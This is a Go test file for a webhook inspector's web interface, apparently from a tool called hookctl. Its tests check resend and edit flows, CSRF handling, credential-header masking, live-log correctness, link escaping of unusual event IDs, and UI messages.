	code, body, hdr := send(t, req)
	if code != http.StatusSeeOther {
		t.Fatalf("resend: %d %s", code, body)
	}
	nd, err := st.GetDelivery(context.Background(), strings.TrimPrefix(strings.SplitN(hdr.Get("Location"), "?", 2)[0], "/deliveries/"))
	if err != nil {
		t.Fatal(err)
	}
	ev, err := st.GetEvent(context.Background(), nd.EventID)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(ev.Payload, bin) || nd.Headers["X-Try"] != "2" {
		t.Errorf("resent body %q headers %v, want the stored bytes and X-Try: 2", ev.Payload, nd.Headers)
	}

	id = publish([]byte(`<doc><a>1</a></doc>`), "application/xml")
	req, _ = http.NewRequest("GET", srv.URL+"/deliveries/"+id+"/edit", nil)
	if _, page, _ := send(t, req); !strings.Contains(page, "spellcheck=\"false\">\n&lt;doc&gt;&lt;a&gt;1&lt;/a&gt;&lt;/doc&gt;</textarea>") {
		t.Errorf("edit page of an XML body does not offer it as sent:\n%s", page)
	}
}

// A form over the size limit is refused as too large: it was answered
// "missing or wrong CSRF token (reload the page)" (the unread form lacked
// its token), and with the token in a header the handler saw an empty body
// and resent an empty edited copy.
func TestTooLargeForm(t *testing.T) {
	t.Parallel()
	h, srv, st := newHandler(t)
	pub := publishOne(t, st)
	big := `{"pad":"` + strings.Repeat("x", 9<<20) + `"}`
	for _, inHeader := range []bool{false, true} {
		form := url.Values{"body": {big}}
		if !inHeader {
			form.Set("_csrf", h.CSRFToken())
		}
		req, _ := http.NewRequest("POST", srv.URL+"/deliveries/"+pub.Deliveries[0].ID+"/resend", strings.NewReader(form.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		if inHeader {
			req.Header.Set("X-CSRF-Token", h.CSRFToken())
		}
		code, body, _ := send(t, req)
		if code != http.StatusRequestEntityTooLarge || !strings.Contains(body, "larger than 8 MiB") {
			t.Errorf("token in header %v: %d %q", inHeader, code, body)
		}
	}
	if ds, _ := st.ListDeliveries(context.Background(), store.DeliveryFilter{Limit: 10}); len(ds) != 1 {
		t.Errorf("%d deliveries after refused resends, want the original only", len(ds))
	}
}

// The largest body listen accepts by default (1 MiB), indented on the edit
// page and form-encoded by the browser, can be resent.
func TestEditLargeBody(t *testing.T) {
	t.Parallel()
	h, srv, st := newHandler(t)
	d := &service.Dispatcher{Store: st}
	item := `{"k":"\"q\"","n":[1,2]}`
	payload := "[" + strings.Repeat(item+",", (1<<20-100)/(len(item)+1)) + item + "]"
	pub, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond", Payload: []byte(payload), ContentType: "application/json"},
		service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"})
	if err != nil {
		t.Fatal(err)
	}
	var pretty bytes.Buffer
	json.Indent(&pretty, []byte(payload), "", "  ")
	form := url.Values{"_csrf": {h.CSRFToken()}, "body": {pretty.String()}}
	req, _ := http.NewRequest("POST", srv.URL+"/deliveries/"+pub.Deliveries[0].ID+"/resend", strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if code, body, _ := send(t, req); code != http.StatusSeeOther {
		t.Errorf("resend of a 1 MiB JSON body (%d bytes as a form): %d %.200s", len(form.Encode()), code, body)
	}
}

type inspectorStore interface {
	store.Store
	store.Inspector
}

// racyStore stores a delivery matching the live log's filter right after
// the stream's filtered read, before its next read of the newest seq:
// the order in which a busy store can interleave them.
type racyStore struct {
	inspectorStore
	mu       sync.Mutex
	inserted bool
	insert   func()
}

func (s *racyStore) InspectDeliveries(ctx context.Context, q store.InspectQuery) (*store.InspectPage, error) {
	pg, err := s.inspectorStore.InspectDeliveries(ctx, q)
	s.mu.Lock()
	defer s.mu.Unlock()
	if q.Tail && q.Filtered() && !s.inserted && len(pg.Rows) == 0 {
		s.inserted = true
		s.insert()
	}
	return pg, err
}

// A live log with a filter does not skip a matching delivery stored
// between its filtered read and its move of the cursor to the newest.
func TestLiveFilterDoesNotSkip(t *testing.T) {
	t.Parallel()
	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	d := &service.Dispatcher{Store: st}
	publish := func(typ string) string {
		pub, err := d.Publish(context.Background(), &store.Event{Type: typ, Provider: "bond", Payload: []byte(`{}`), ContentType: "application/json"},
			service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw", Schedule: []time.Duration{time.Hour}})
		if err != nil {
			t.Fatal(err)
		}
		return pub.Deliveries[0].ID
	}
	publish("card.status.active")
	var want string
	rs := &racyStore{inspectorStore: st.(inspectorStore)}
	rs.insert = func() { want = publish("card.created") }
	srv := httptest.NewUnstartedServer(nil)
	h, err := web.New(web.Config{Store: rs, Addr: srv.Listener.Addr().String(), Poll: 50 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	srv.Config.Handler = h
	srv.Start()
	defer srv.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, "GET", srv.URL+"/live?type=card.created", nil)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body) // until the timeout
	if want == "" {
		t.Fatal("the filtered read never happened")
	}
	if !strings.Contains(string(b), want) {
		t.Errorf("delivery %s (card.created) stored during the stream never came on a type=card.created stream:\n%s", want, b)
	}
}

// The edit page showed a delivery's own headers in clear (listen -H
// 'Authorization: Bearer …', trigger --header): the app's credential on a
// page one click from the detail page, which masks it. Credential headers
// are shown masked now, and a value left as shown resends the stored one;
// an edited value is sent as typed.
func TestEditMasksCredentialHeaders(t *testing.T) {
	t.Parallel()
	h, srv, st := newHandler(t)
	const token, key = "Bearer s3cr3t-app-token-123", "k3y-abcdefghijklmnop"
	ev := &store.Event{ID: "evt_fwd_auth", Type: "card.created", Provider: "bond", Source: store.SourceReceived, Verdict: "valid",
		Payload: []byte(`{"event":"card.created"}`), ContentType: "application/json"}
	fwd := &store.Delivery{Kind: store.KindForward, URL: "http://127.0.0.1:3000/webhooks", Scheme: "bond", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
		Headers: map[string]string{"Authorization": token, "X-Api-Key": key, "X-Tenant": "acme"},
		Status:  store.DeliverySucceeded, AttemptCount: 1, MaxAttempts: 1, Schedule: "0s"}
	if err := st.CreateEvent(context.Background(), ev, []*store.Delivery{fwd}); err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequest("GET", srv.URL+"/deliveries/"+fwd.ID+"/edit", nil)
	code, page, _ := send(t, req)
	if code != 200 {
		t.Fatalf("edit page: %d %s", code, page)
	}
	if strings.Contains(page, "s3cr3t-app-token-123") || strings.Contains(page, "abcdefghijklmnop") {
		t.Fatalf("the edit page shows a credential header in clear:\n%s", page)
	}
	m := regexp.MustCompile(`(?s)name="headers"[^>]*>(.*?)</textarea>`).FindStringSubmatch(page)
	if m == nil {
		t.Fatalf("no headers field:\n%s", page)
	}
	shown := html.UnescapeString(m[1])
	if !strings.Contains(shown, "X-Tenant: acme") || !strings.Contains(shown, "Authorization: Bearer ") {
		t.Fatalf("headers field %q, want X-Tenant in clear and Authorization masked", shown)
	}
	resend := func(headers string) map[string]string {
		t.Helper()
		code, body, hdr := postForm(t, srv, h, "/deliveries/"+fwd.ID+"/resend", url.Values{"body": {`{"event":"card.created"}`}, "headers": {headers}})
		if code != http.StatusSeeOther {
			t.Fatalf("resend: %d %s", code, body)
		}
		nd, err := st.GetDelivery(context.Background(), strings.TrimPrefix(strings.SplitN(hdr.Get("Location"), "?", 2)[0], "/deliveries/"))
		if err != nil {
			t.Fatal(err)
		}
		return nd.Headers
	}
	// Sent as shown: the stored credentials go out.
	if got := resend(shown); got["Authorization"] != token || got["X-Api-Key"] != key || got["X-Tenant"] != "acme" {
		t.Errorf("resent as shown: headers %v, want the stored values", got)
	}
	// A credential typed anew is sent as typed.
	edited := strings.Replace(shown, "X-Api-Key: "+subscription.MaskCredentialHeaders(map[string]string{"X-Api-Key": key})["X-Api-Key"], "X-Api-Key: new-key-typed", 1)
	if got := resend(edited); got["X-Api-Key"] != "new-key-typed" || got["Authorization"] != token {
		t.Errorf("resent with a new key: headers %v", got)
	}
}

// The Replay button's attempt is a manual one, shown as such on the
// delivery's page, and so is the first attempt of an edited resend; the
// first send (claimed by the inspector's engine) is the schedule's.
// Before, every attempt read as scheduled.
func TestInspectorAttemptsAskedForAreManual(t *testing.T) {
	t.Parallel()
	recv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.Copy(io.Discard, r.Body) }))
	defer recv.Close()
	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	cat, _ := catalog.Load(catalog.Options{})
	u, stop, err := web.Start(context.Background(), "127.0.0.1:0", web.Config{Store: st, Catalog: cat})
	if err != nil {
		t.Fatal(err)
	}
	defer stop()
	pub, err := (&service.Dispatcher{Store: st, Catalog: cat}).Trigger(context.Background(), service.TriggerInput{Type: "card.created", Provider: "bond",
		Target: service.Target{URL: recv.URL + "/hooks", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"}})
	if err != nil {
		t.Fatal(err)
	}
	id := pub.Deliveries[0].ID
	attempts := func(n int) []*store.Attempt {
		t.Helper()
		deadline := time.Now().Add(10 * time.Second)
		for {
			as, err := st.ListAttempts(context.Background(), id)
			if err != nil {
				t.Fatal(err)
			}
			if len(as) >= n {
				return as
			}
			if time.Now().After(deadline) {
				t.Fatalf("%d attempts after 10s, want %d", len(as), n)
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
	attempts(1)
	page := func() string {
		t.Helper()
		req, _ := http.NewRequest("GET", u+"deliveries/"+id, nil)
		code, body, _ := send(t, req)
		if code != 200 {
			t.Fatalf("GET the delivery: %d", code)
		}
		return body
	}
	body := page()
	tok := regexp.MustCompile(`name="_csrf" value="([^"]+)"`).FindStringSubmatch(body)
	if tok == nil {
		t.Fatalf("no CSRF token on the page:\n%s", body)
	}
	req, _ := http.NewRequest("POST", u+"deliveries/"+id+"/replay", strings.NewReader(url.Values{"_csrf": {tok[1]}}.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if code, body, _ := send(t, req); code != http.StatusSeeOther {
		t.Fatalf("replay: %d %s", code, body)
	}
	as := attempts(2)
	if len(as) != 2 || as[0].Manual || !as[1].Manual {
		t.Fatalf("attempts: %d, manual %v then %v; want the first scheduled, the replay's manual", len(as), as[0].Manual, as[1].Manual)
	}
	body = page()
	var shown []string
	for _, h3 := range regexp.MustCompile(`(?s)data-number="(\d+)">\s*<h3>(.*?)</h3>`).FindAllStringSubmatch(body, -1) {
		if strings.Contains(h3[2], `data-testid="attempt-manual"`) {
			shown = append(shown, h3[1])
		}
	}
	if !slices.Equal(shown, []string{"2"}) {
		t.Errorf("attempts shown as manual: %v, want #2 only", shown)
	}
	// Edit and resend: a new delivery, whose first attempt was asked for.
	req, _ = http.NewRequest("POST", u+"deliveries/"+id+"/resend", strings.NewReader(url.Values{"_csrf": {tok[1]}, "body": {`{"edited":true}`}}.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if code, body, _ := send(t, req); code != http.StatusSeeOther {
		t.Fatalf("edit and resend: %d %s", code, body)
	}
	var edited *store.Delivery
	for deadline := time.Now().Add(10 * time.Second); edited == nil; time.Sleep(20 * time.Millisecond) {
		ds, err := st.ListDeliveries(context.Background(), store.DeliveryFilter{})
		if err != nil {
			t.Fatal(err)
		}
		for _, d := range ds {
			if d.Kind == store.KindEdited && d.OriginID == id && d.AttemptCount == 1 {
				edited = d
			}
		}
		if edited == nil && time.Now().After(deadline) {
			t.Fatal("no attempt of the edited resend after 10s")
		}
	}
	if as, err := st.ListAttempts(context.Background(), edited.ID); err != nil || len(as) != 1 || !as[0].Manual {
		t.Fatalf("the edited resend's attempt: %d attempts (%v), want one, manual", len(as), err)
	}
}

// The verdict of a delivery sent without a subscription (trigger --url)
// names the secret it was checked with once: "made with the delivery's
// own secret" (it read "made with the the delivery's secret").
func TestVerdictOfAdHocDelivery(t *testing.T) {
	t.Parallel()
	_, srv, st := newHandler(t)
	ctx := context.Background()
	const secret = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"
	ev := &store.Event{ID: "evt_adhoc", Type: "card.created", Provider: "bond", Source: store.SourceTriggered,
		Payload: []byte(`{"event":"card.created"}`), ContentType: "application/json"}
	d := &store.Delivery{URL: "http://127.0.0.1:9/x", Scheme: "bond", Secret: secret, Status: store.DeliveryPending,
		MaxAttempts: 1, Schedule: "0s", NextAttemptAt: time.Now().Add(-time.Second)}
	if err := st.CreateEvent(ctx, ev, []*store.Delivery{d}); err != nil {
		t.Fatal(err)
	}
	if c, err := st.ClaimDue(ctx, "t", time.Now(), time.Minute, 1, ""); err != nil || len(c) != 1 {
		t.Fatalf("claim: %d %v", len(c), err)
	}
	sch, _ := signature.Lookup("bond")
	at := time.Now()
	hdr, err := sch.Sign(signature.SignInput{Secrets: []string{secret}, Timestamp: at, Body: ev.Payload})
	if err != nil {
		t.Fatal(err)
	}
	a := &store.Attempt{DeliveryID: d.ID, Number: 1, StartedAt: at, RequestHeaders: map[string][]string(hdr), Error: "connection refused"}
	if err := st.RecordAttempt(ctx, "t", a, store.DeliveryUpdate{Status: store.DeliveryFailed, LastError: "connection refused"}); err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequest("GET", srv.URL+"/deliveries/"+d.ID, nil)
	code, body, _ := send(t, req)
	text := html.UnescapeString(body)
	if code != 200 || !strings.Contains(text, "carries a bond signature made with the delivery's own secret") || strings.Contains(text, "the the") {
		t.Errorf("delivery page: %d; want the verdict to name the delivery's own secret once:\n%s", code, text)
	}
}

// A flood of the live log (more new rows than a batch draws) of
// deliveries and then events without one (listen rejecting a burst) shows
// the newest rows, and its "older" link continues right below them with
// every row it left out. The batch kept the deliveries first and filled
// up with events, so the newest events it left out, newer than those
// deliveries, were on no page: 30 deliveries then 120 rejected requests,
// and 50 of the requests were missing.
func TestLiveFloodOfEventsHasNoHole(t *testing.T) {
	t.Parallel()
	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	d := &service.Dispatcher{Store: st}
	publish := func() {
		if _, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond", Payload: []byte(`{}`), ContentType: "application/json"},
			service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw", Schedule: []time.Duration{time.Hour}}); err != nil {
			t.Fatal(err)
		}
	}
	for range 3 {
		publish()
	}
	srv := httptest.NewUnstartedServer(nil)
	h, err := web.New(web.Config{Store: st, Addr: srv.Listener.Addr().String(), Poll: time.Second})
	if err != nil {
		t.Fatal(err)
	}
	srv.Config.Handler = h
	srv.Start()
	defer srv.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, "GET", srv.URL+"/live", nil)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(nil, 8<<20)
	next := func() string { // the data of the next event
		for sc.Scan() {
			if d, ok := strings.CutPrefix(sc.Text(), "data: "); ok {
				return d
			}
		}
		t.Fatalf("the stream ended: %v", sc.Err())
		return ""
	}
	next() // hello: the stream's cursor is set
	for range 30 {
		publish()
	}
	for i := range 120 {
		ev := &store.Event{ID: fmt.Sprintf("rej_flood_%03d", i), Type: "card.created", Provider: "bond", Source: store.SourceReceived,
			Payload: []byte(`{}`), ContentType: "application/json", Verdict: "invalid: no matching signature"}
		if err := st.CreateEvent(context.Background(), ev, nil); err != nil {
			t.Fatal(err)
		}
	}
	var batch struct {
		Rows    string `json:"rows"`
		Paging  string `json:"paging"`
		Skipped int    `json:"skipped"`
	}
	if err := json.Unmarshal([]byte(next()), &batch); err != nil {
		t.Fatal(err)
	}
	if batch.Skipped == 0 {
		t.Fatal("the batch was not a flood: the test inserted too slowly")
	}
	rows := regexp.MustCompile(`<tr data-testid="(?:delivery|event)-row" data-(?:delivery|event)-id="([^"]+)"`)
	older := regexp.MustCompile(`href="(/\?[^"]*before=[^"]*)" data-testid="older"`)
	var order []string
	for _, m := range rows.FindAllStringSubmatch(batch.Rows, -1) {
		order = append(order, m[1])
	}
	page := batch.Paging
	for pages := 0; pages < 10; pages++ {
		m := older.FindStringSubmatch(page)
		if m == nil {
			break
		}
		req, _ := http.NewRequest("GET", srv.URL+html.UnescapeString(m[1]), nil)
		code, body, _ := send(t, req)
		if code != 200 {
			t.Fatalf("GET %s: %d", m[1], code)
		}
		for _, m := range rows.FindAllStringSubmatch(body, -1) {
			order = append(order, m[1])
		}
		page = body
	}
	seen := map[string]int{}
	for _, id := range order {
		seen[id]++
	}
	if len(order) != 153 || len(seen) != 153 {
		t.Errorf("the flood's batch and the older pages show %d rows (%d distinct), want the 33 deliveries and 120 events once each", len(order), len(seen))
	}
	var evs []string
	for _, id := range order {
		if strings.HasPrefix(id, "rej_flood_") {
			evs = append(evs, id)
		}
	}
	for i, id := range evs {
		if want := fmt.Sprintf("rej_flood_%03d", 119-i); id != want {
			t.Fatalf("event %d of the log is %s, want %s (newest first, none left out)", i, id, want)
		}
	}
}

// An event's links lead to it whatever its ID holds: listen keeps the
// sender's id (webhook-id, svix-id, X-GitHub-Delivery), so an ID may hold
// "/", "?", "#", "%" or dot segments. They went into the links as they
// were: "msg_a/b?c#d" linked to /events/msg_a/b (404), and
// "msg_../../overview" to the overview page.
func TestEventLinksEscapeTheID(t *testing.T) {
	t.Parallel()
	_, srv, st := newHandler(t)
	ids := []string{"msg_a/b?c#d", "msg_../../overview", "msg_100%", "msg_ü space"}
	for _, id := range ids {
		ev := &store.Event{ID: id, Type: "card.created", Provider: "bond", Source: store.SourceReceived,
			Payload: []byte(`{"id":1}`), ContentType: "application/json", Verdict: "valid"}
		if err := st.CreateEvent(context.Background(), ev, nil); err != nil {
			t.Fatal(err)
		}
	}
	base, _ := url.Parse(srv.URL + "/")
	get := func(ref string) (int, string) {
		t.Helper()
		u, err := base.Parse(ref)
		if err != nil {
			t.Fatalf("link %q: %v", ref, err)
		}
		req, _ := http.NewRequest("GET", u.String(), nil)
		code, body, _ := send(t, req)
		return code, body
	}
	link := regexp.MustCompile(`data-event-id="([^"]+)"(?s:.*?)<a href="([^"]+)"`)
	for _, page := range []string{"/", "/events"} {
		_, body := get(page)
		found := 0
		for _, m := range link.FindAllStringSubmatch(body, -1) {
			id, href := html.UnescapeString(m[1]), html.UnescapeString(m[2])
			found++
			code, ev := get(href)
			if code != 200 || !strings.Contains(ev, `data-testid="event-detail" data-event-id="`+html.EscapeString(id)+`"`) {
				t.Errorf("%s: the link of event %q (%s) leads to a %d page, not the event's", page, id, href, code)
				continue
			}
			dl := regexp.MustCompile(`<a class="button" href="([^"]+)" download>`).FindStringSubmatch(ev)
			if dl == nil {
				t.Fatalf("event %q: no download link", id)
			}
			if code, b := get(html.UnescapeString(dl[1])); code != 200 || b != `{"id":1}` {
				t.Errorf("event %q: the body's link (%s) answers %d %q", id, dl[1], code, b)
			}
		}
		if found != len(ids) {
			t.Errorf("%s: %d event rows with a link, want %d", page, found, len(ids))
		}
	}
}

// A type filter that can match nothing ('card*', 'card.*.x') says why on
// the log, page and filter fetch alike, as hookctl deliveries list
// --event does; it said "No deliveries match these filters", as if none
// of type card* had been sent.
func TestLogInvalidTypeFilterSaysWhy(t *testing.T) {
	t.Parallel()
	_, srv, st := newHandler(t)
	d := &service.Dispatcher{Store: st}
	if _, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond", Payload: []byte(`{}`), ContentType: "application/json"},
		service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw", Schedule: []time.Duration{time.Hour}}); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ typ, want string }{
		{"card*", "may only end a pattern after a dot"},
		{"card.*.x", "may only end a pattern after a dot"},
		{"card..created", `invalid event &#34;card..created&#34;`},
		{"card.deleted", "No deliveries match these filters."},
	} {
		req, _ := http.NewRequest("GET", srv.URL+"/?type="+url.QueryEscape(c.typ), nil)
		code, body, _ := send(t, req)
		if code != 200 || !strings.Contains(body, c.want) || strings.Contains(body, `data-testid="delivery-row"`) {
			t.Errorf("type=%s: %d, the page does not say %q", c.typ, code, c.want)
		}
		req, _ = http.NewRequest("GET", srv.URL+"/?fragment=1&type="+url.QueryEscape(c.typ), nil)
		_, body, _ = send(t, req)
		var frag struct {
			Empty     bool   `json:"empty"`
			EmptyHTML string `json:"emptyHTML"`
		}
		if err := json.Unmarshal([]byte(body), &frag); err != nil {
			t.Fatal(err)
		}
		if !frag.Empty || !strings.Contains(frag.EmptyHTML, c.want) {
			t.Errorf("type=%s: the filter fetch says %+v, want %q", c.typ, frag, c.want)
		}
	}
	req, _ := http.NewRequest("GET", srv.URL+"/?fragment=1", nil)
	if _, body, _ := send(t, req); !strings.Contains(body, `"empty":false`) {
		t.Errorf("no filter: the fetch is empty: %s", body)
	}
}

// Replay of a delivery whose subscription is disabled says it is not
// sent, and why, and leaves the delivery as it was: nothing would go out
// (the engine records "not sent: the subscription is disabled" and counts
// an attempt). The page said "replay queued: a new attempt goes out now".
func TestReplayDisabledSubscriptionSaysSo(t *testing.T) {
	t.Parallel()
	h, srv, st := newHandler(t)
	ctx := context.Background()
	subs := &subscription.Service{Store: st}
	sub, err := subs.Create(ctx, subscription.CreateInput{URL: "http://127.0.0.1:9/hook", Events: []string{"card.*"}, Provider: "bond"})
	if err != nil {
		t.Fatal(err)
	}
	pub, err := (&service.Dispatcher{Store: st}).Publish(ctx, &store.Event{Type: "card.created", Provider: "bond", Payload: []byte(`{}`), ContentType: "application/json"},
		service.Target{SubscriptionID: sub.ID})
	if err != nil {
		t.Fatal(err)
	}
	id := pub.Deliveries[0].ID
	if _, _, err := subs.SetStatus(ctx, sub.ID, store.StatusDisabled); err != nil {
		t.Fatal(err)
	}
	code, _, hd := postForm(t, srv, h, "/deliveries/"+id+"/replay", url.Values{})
	if code != http.StatusSeeOther {
		t.Fatalf("replay: %d", code)
	}
	req, _ := http.NewRequest("GET", srv.URL+hd.Get("Location"), nil)
	_, body, _ := send(t, req)
	flash := regexp.MustCompile(`data-testid="flash">([^<]*)<`).FindStringSubmatch(body)
	if flash == nil || !strings.Contains(flash[1], "disabled") || strings.Contains(flash[1], "goes out now") {
		t.Errorf("the replay's message is %q, want it to say the subscription is disabled", flash)
	}
	d, err := st.GetDelivery(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	if d.Status != pub.Deliveries[0].Status || d.AttemptCount != pub.Deliveries[0].AttemptCount {
		t.Errorf("the delivery is %s after %d attempts, want it left %s after %d", d.Status, d.AttemptCount, pub.Deliveries[0].Status, pub.Deliveries[0].AttemptCount)
	}

	// Enabled again, it is replayed.
	if _, _, err := subs.SetStatus(ctx, sub.ID, store.StatusEnabled); err != nil {
		t.Fatal(err)
	}
	_, _, hd = postForm(t, srv, h, "/deliveries/"+id+"/replay", url.Values{})
	if loc := hd.Get("Location"); !strings.Contains(loc, "goes+out+now") {
		t.Errorf("replay after enable: redirected to %s", loc)
	}
}

// An edited copy and its original link to each other: the copy's page
// names the original (and a diff with it), the original's page lists its
// edited copies. The original's page did not: the copy is a new event,
// so it was not among the other deliveries of the original's event, and
// nothing on the original said an edited copy had been sent.
func TestEditedCopyLinkedBothWays(t *testing.T) {
	t.Parallel()
	h, srv, st := newHandler(t)
	pub := publishOne(t, st)
	orig := pub.Deliveries[0].ID
	var copies []string
	for _, b := range []string{`{"a":2}`, `{"a":3}`} {
		form := url.Values{"_csrf": {h.CSRFToken()}, "body": {b}}
		req, _ := http.NewRequest("POST", srv.URL+"/deliveries/"+orig+"/resend", strings.NewReader(form.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		code, body, hdr := send(t, req)
		if code != http.StatusSeeOther {
			t.Fatalf("resend: %d %s", code, body)
		}
		copies = append(copies, strings.TrimPrefix(strings.SplitN(hdr.Get("Location"), "?", 2)[0], "/deliveries/"))
	}
	req, _ := http.NewRequest("GET", srv.URL+"/deliveries/"+orig, nil)
	_, page, _ := send(t, req)
	for _, c := range copies {
		if !strings.Contains(page, `<a href="/deliveries/`+c+`" data-testid="edited-copy">`) || !strings.Contains(page, `/diff?a=`+orig+`&amp;b=`+c) {
			t.Errorf("the original's page does not link its edited copy %s:\n%s", c, page)
		}
	}
	if i, j := strings.Index(page, copies[1]), strings.Index(page, copies[0]); i < 0 || j < 0 || i > j {
		t.Errorf("edited copies not listed newest first")
	}
	req, _ = http.NewRequest("GET", srv.URL+"/deliveries/"+copies[0], nil)
	_, page, _ = send(t, req)
	if !strings.Contains(page, `<dt>Edited copy of</dt><dd><a href="/deliveries/`+orig+`" data-testid="origin">`) || strings.Contains(page, `data-testid="edited-copy"`) {
		t.Errorf("the copy's page does not link back to its original %s:\n%s", orig, page)
	}
}

// A request listen refused as a forwarding loop was never checked for its
// signature: the inspector says "refused", not "invalid", on the log, the
// events list and the event's page, for a verdict written today
// ("refused: …") and one stored before refusals had their own kind
// ("invalid: forwarding loop …"). A failed signature still reads invalid.
func TestRefusedIsNotAnInvalidSignature(t *testing.T) {
	t.Parallel()
	_, srv, st := newHandler(t)
	const loop = "forwarding loop: this request was already forwarded by this listen"
	for id, v := range map[string]string{"rej_new": "refused: " + loop, "rej_old": "invalid: " + loop, "rej_sig": "invalid: no matching signature"} {
		ev := &store.Event{ID: id, Type: "card.created", Provider: "bond", Source: store.SourceReceived,
			Payload: []byte(`{}`), ContentType: "application/json", Verdict: v}
		if err := st.CreateEvent(context.Background(), ev, nil); err != nil {
			t.Fatal(err)
		}
	}
	get := func(path string) string {
		t.Helper()
		req, _ := http.NewRequest("GET", srv.URL+path, nil)
		code, body, _ := send(t, req)
		if code != 200 {
			t.Fatalf("%s: %d", path, code)
		}
		return body
	}
	for _, id := range []string{"rej_new", "rej_old"} {
		page := get("/events/" + id)
		if !strings.Contains(page, `data-testid="signature-verdict">not checked: refused<`) || !strings.Contains(page, loop) || strings.Contains(page, ">invalid<") {
			t.Errorf("%s: the event page does not say refused:\n%s", id, page)
		}
	}
	if page := get("/events/rej_sig"); !strings.Contains(page, `data-testid="signature-verdict">invalid<`) {
		t.Errorf("rej_sig: the event page does not say invalid:\n%s", page)
	}
	for _, path := range []string{"/", "/events"} {
		body := get(path)
		if strings.Contains(body, "invalid: forwarding loop") || strings.Count(body, "refused: forwarding loop") < 2 || !strings.Contains(body, "invalid: no matching signature") {
			t.Errorf("%s: verdicts:\n%s", path, body)
		}
	}
}

// Every time the inspector shows says its time zone: the edited copies of
// a delivery were listed at "2026-12-04 21:35:37" (UTC, unsaid), the live
// log's times of day and the chart's axis are on this machine's clock and
// did not say which zone that is.
func TestTimesSayTheirZone(t *testing.T) {
	t.Parallel()
	h, srv, st := newHandler(t)
	pub := publishOne(t, st)
	orig := pub.Deliveries[0].ID
	code, body, _ := postForm(t, srv, h, "/deliveries/"+orig+"/resend", url.Values{"body": {`{"a":2}`}})
	if code != http.StatusSeeOther {
		t.Fatalf("resend: %d %s", code, body)
	}
	get := func(path string) string {
		req, _ := http.NewRequest("GET", srv.URL+path, nil)
		_, page, _ := send(t, req)
		return page
	}
	bare := regexp.MustCompile(`\d{4}-\d\d-\d\d[ T]\d\d:\d\d:\d\d(\.\d+)?(Z|[+-]\d\d:?\d\d| [A-Z]{3})?`)
	for _, p := range []string{"/deliveries/" + orig, "/events", "/overview"} {
		page := get(p)
		text := regexp.MustCompile(`<[^>]*>`).ReplaceAllString(page, " ")
		for _, m := range bare.FindAllStringSubmatch(text, -1) {
			if m[2] == "" {
				t.Errorf("%s shows %q without its time zone", p, m[0])
			}
		}
	}
	zone := time.Now().Format("MST")
	if page := get("/"); !strings.Contains(page, ">Time ("+zone+")</th>") {
		t.Errorf("the log's Time heading does not name the zone %s", zone)
	}
	if page := get("/overview"); !strings.Contains(page, "(times in "+zone+")") {
		t.Errorf("the overview's chart does not name the zone %s of its axis", zone)
	}
}

// An empty page says what to do next: the events list said "No events
// yet." and the subscriptions list "No subscriptions yet." with no way
// forward, and the Trigger page said a type "goes to 0 enabled
// subscription(s)" above a Send button that could only fail.
func TestEmptyPagesSayWhatToDo(t *testing.T) {
	t.Parallel()
	_, srv, _ := newHandler(t)
	get := func(path string) string {
		req, _ := http.NewRequest("GET", srv.URL+path, nil)
		_, page, _ := send(t, req)
		return page
	}
	for _, c := range []struct{ path, want string }{
		{"/events", "hookctl trigger card.created"},
		{"/events", `<a href="/trigger">Trigger</a>`},
		{"/subscriptions", "hookctl subscribe --url"},
		{"/trigger?type=bond:card.created", `No enabled subscription takes bond:card.created: create one on the <a href="/subscriptions">Subscriptions</a> page.`},
	} {
		if page := get(c.path); !strings.Contains(page, c.want) {
			t.Errorf("%s does not say %q", c.path, c.want)
		}
	}
	if page := get("/events?type=card.created"); !strings.Contains(page, "No events match these filters.") {
		t.Errorf("an events list filtered to nothing does not say so")
	}
}

// A log link with a status, source or provider the page does not know
// (?status=ok) says so, as an impossible type pattern does: it showed "No
// deliveries match these filters" under selects that all read "any".
